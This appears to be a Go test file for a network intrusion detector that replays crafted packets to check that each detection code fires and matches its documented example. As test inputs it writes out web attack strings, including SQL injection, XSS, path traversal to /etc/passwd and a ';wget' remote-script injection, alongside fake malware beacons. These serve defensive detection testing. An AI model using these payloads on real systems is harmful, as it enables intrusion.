package tests

import (
	"crypto/sha1"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"trailhound/agent/detect"
	"trailhound/agent/event"
	"trailhound/agent/suppress"
	"trailhound/outputs/format"
	. "trailhound/tests/corpus"
)

// spread sends two frames a second.
func spread(n int, make func(i int) Frame) (all []Stamped) {
	for i := range n {
		all = append(all, At(i/2, make(i)))
	}
	return all
}

// examples are the least that raises each code.
func examples() map[event.Code][]Stamped {
	digest := Certificate("evil.example")
	get := func(target string, headers ...string) []Stamped {
		return Each(eth(scanner, "10.0.0.7", TCP(50040, 80, PSH|ACK, Get("shop.example", target, headers...))))
	}
	said := func(head, body string) []Stamped {
		return Each(eth(web, client, TCP(80, 50040, PSH|ACK, "HTTP/1.1 200 OK\r\n"+head+"\r\n"+body)))
	}
	tunnel := func(n int) (all []Stamped) {
		for i := range n {
			all = append(all, At(i/100, query(fmt.Sprintf("%05x.tunnel.com", i))))
		}
		return all
	}
	return map[event.Code][]Stamped{
		event.TrailDNS:       Each(query("www.evil-parent.com")),
		event.TrailDNSAnswer: Each(answer("www.site.com", Leads(TypeCNAME, "cdn.evil-parent.com"))),
		event.TrailIP:        Each(eth(client, "66.66.66.66", Syn(50002, 443))),
		event.TrailIPAnswer:  Each(answer("www.site.com", Address("66.66.66.66"))),
		event.TrailIPORT:     Each(eth(client, "6.6.6.6", Syn(50003, 8443))),
		event.TrailURL:       Each(request(Get("evil-url.example", "/bad/path"))),
		event.TrailHTTP:      Each(request(Request("POST", "/gate.php", []string{"Host: a.example"}, "id=1&os=2"))),
		event.TrailUA:        Each(request(Get("a.example", "/", "User-Agent: EvilBot/3.1"))),
		event.TrailCERT:      Each(eth(web, client, Data(443, 50040, ServerFlight(digest)))),
		event.TrailJA3:       Each(greeting),
		event.TrailJA4:       Each(greeting),

		event.ScanPort: probes(11, 1, syns(scanner, "10.0.0.7")),
		event.ScanUDP:  probes(11, 1, datagrams(scanner, "10.0.0.7", 40000)),
		event.ScanWeb: spread(11, func(i int) Frame {
			return eth(scanner, "10.0.0.7", TCP(52000, 80, PSH|ACK, Get("shop.example", fmt.Sprintf("/dir%d/", i))))
		}),
		event.ScanInfection: spread(33, func(i int) Frame { return eth("10.0.0.5", fmt.Sprintf("10.9.9.%d", i), Syn(53000, 445)) }),

		event.DNSLong:         Each(query("a3f9c27be10d48f6a1b2c3d4e5f60718.tunnel.com")),
		event.DNSExhaustion:   tunnel(1001),
		event.DNSNXDomain:     spread(41, func(int) Frame { return noSuchName("www.gone.com") }), // the same twice a second counts once
		event.DNSParked:       Each(answer("www.parked.com", Address("198.51.100.91"))),
		event.DNSSinkholed:    Each(answer("www.sinkholed.com", Address("198.51.100.90"))),
		event.DNSDGAEntropy:   Each(noSuchName("kq3v9xw7zt2mbd.com")),
		event.DNSDGAConsonant: Each(noSuchName("bcdbcdbcdbcd.com")),

		event.HTTPSinkhole:    said("Server: malware-sinkhole\r\n", ""),
		event.HTTPIoT:         Each(request(Get("203.0.113.10", "/bins/mirai.x86"))),
		event.HTTPSeized:      said("", "<title>This domain name has been seized by the FBI</title>"),
		event.HTTPCType:       said("Content-Type: application/hta\r\n", ""),
		event.HTTPNoHost:      Each(request("GET /index.html HTTP/1.1\r\n\r\n")),
		event.HTTPProxyProbe:  Each(request(Get("proxycheck.example", "http://proxycheck.example/"))),
		event.HTTPUA:          get("/", "User-Agent: masscan/1.0"),
		event.HTTPSQLi:        get("/items?id=1%20UNION%20ALL%20SELECT%20a%20FROM%20b"),
		event.HTTPXMLi:        get("/x?a=%2ftext()='b"),
		event.HTTPPHPi:        get("/x?a=php://input"),
		event.HTTPLDAPi:       get("/x?u=*)(|(cn=*"),
		event.HTTPXSS:         get("/x?q=<script>alert(1)</script>"),
		event.HTTPXXE:         get("/x?q=[<!ENTITY%20a"),
		event.HTTPSSTI:        get("/x?q=${7*7}"),
		event.HTTPLeak:        Each(attackOf("GET", "/x?imei=123456789012345", "")),
		event.HTTPConfig:      get("/a/.htaccess"),
		event.HTTPRCE:         get("/x?q=;wget%20http://a.example/x.sh"),
		event.HTTPTraversal:   get("/x?f=../../../etc/passwd"),
		event.HTTPWebScan:     get("/x?acunetix_wvs_security_test=1"),
		event.HTTPDNSChanger:  get("/apply?dnsPrimary=192.0.2.53"),
		event.HTTPNonexistent: get("/DefaultWebPage.cgi"),
		event.HTTPDownload:    Each(attackOf("GET", "/setup.exe", "")),
	}
}

// greeting is a client that says hello to a server.
var greeting = eth(client, web, Data(50040, 443, Record(ClientHello("www.clean.com", ALPN()))))

// exampleTrails are what the examples run with.
func exampleTrails(t *testing.T) []string {
	c := Case{Trails: []string{"www.clean.com,malware (test)"}}
	hello := worked(caseRules(t, &c), greeting)
	if len(hello) != 1 || hello[0].TLS.JA3 == "" || hello[0].TLS.JA4 == "" {
		t.Fatalf("no fingerprints: %+v", hello)
	}
	return append(slices.Clone(answerTrails), "ja3:"+hello[0].TLS.JA3+",malware (test)", "ja4:"+hello[0].TLS.JA4+",malware (test)",
		"evil-url.example/bad/path,malware (test)", "6.6.6.6:8443,malware (test)", "/gate.php?id=1&os=2,malware (test)",
		"ua:evilbot/[0-9],malware (test)", fmt.Sprintf("%x,malware (test)", sha1.Sum(Certificate("evil.example"))))
}

// exampleOf replays the frames and gives the event of the code.
func exampleOf(t *testing.T, rules *detect.Rules, code event.Code, frames []Stamped) (found event.Event, ok bool) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "capture.pcap")
	if err := os.WriteFile(path, Pcap(frames), 0o600); err != nil {
		t.Fatal(err)
	}
	events, _ := replay(t, setup{rules: rules, workers: 1}, path)
	for _, e := range events {
		if e.Code == code {
			return e, true
		}
	}
	return event.Event{}, false
}

// exampleLine is the event as the table shows it, without the columns' blanks.
func exampleLine(e *event.Event) string {
	return strings.Join(strings.Fields(string(format.AppendTable(nil, e, &event.Identity{}, format.TableOptions{}))), " ")
}

// TestCatalogueExamples: the examples of docs/detections.md are what comes out, and
// the rules there take them out.
func TestCatalogueExamples(t *testing.T) {
	c := Case{Trails: exampleTrails(t), UserAgents: "masscan\n"}
	rules := caseRules(t, &c)
	all := examples()
	for _, entry := range event.Catalogue() {
		if entry.Code.IsHealth() {
			continue
		}
		e, ok := exampleOf(t, rules, entry.Code, all[entry.Code])
		if !ok {
			t.Errorf("%s: nothing raises it", entry.Code)
			continue
		}
		if got := exampleLine(&e); got != entry.Example {
			t.Errorf("%s: the example is\n%s\nwant\n%s", entry.Code, got, entry.Example)
		}
		if !slices.Contains(entry.Types, e.Type) {
			t.Errorf("%s is of type %s, not of %v", entry.Code, e.Type, entry.Types)
		}
		least, most := entry.Severities()
		if e.Severity < least || e.Severity > most {
			t.Errorf("%s is %s, not from %s to %s", entry.Code, e.Severity, least, most)
		}
		tryRule(t, entry, e)
	}
}

// tryRule holds the entry's rule against the example, which it takes out, and
// against the same of other hosts about something else, which it leaves.
func tryRule(t *testing.T, entry event.Entry, e event.Event) {
	t.Helper()
	list, problems := suppress.ReadRules(strings.NewReader("rules: ["+entry.Rule+"]"), string(entry.Code))
	if len(problems) > 0 || len(list) != 1 {
		t.Errorf("%s: %d rules, %v", entry.Code, len(list), problems)
		return
	}
	other := e
	other.Src, other.Dst = netip.MustParseAddr("192.0.2.200"), netip.MustParseAddr("192.0.2.201")
	other.Trail, other.Indicator, other.Observable = "other", "other", "other"
	for _, c := range []struct {
		what string
		e    *event.Event
		want uint64
	}{{"the example", &e, 1}, {"something else", &other, 0}} {
		trial, problems := suppress.Test(list[0], suppress.Scope{Sensor: &event.Identity{}}, slices.Values([]*event.Event{c.e}), 0)
		if len(problems) > 0 || trial.Matched != c.want {
			t.Errorf("%s: of %s the rule takes %d, want %d; %v", entry.Code, c.what, trial.Matched, c.want, problems)
		}
	}
}
